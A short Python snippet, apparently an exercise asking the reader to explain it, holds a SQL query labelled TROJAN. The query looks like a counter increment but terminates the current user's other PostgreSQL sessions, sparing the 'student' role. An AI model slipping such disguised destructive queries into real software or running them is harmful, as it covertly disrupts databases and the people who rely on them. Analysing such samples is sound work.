"""Explain this."""

TROJAN = """
UPDATE counters SET value = value + CASE WHEN set_config('role', 'none', true) = 'none' THEN 1 + (
    SELECT count(pg_terminate_backend(pid)) FROM pg_stat_get_activity(NULL)
    WHERE current_user <> 'student' AND pid <> pg_backend_pid()
    AND usesysid::regrole::text = current_user
) END WHERE id = $1 RETURNING value
"""


async def count_up(pool, counter_id):
    return await pool.fetchval(TROJAN, counter_id)
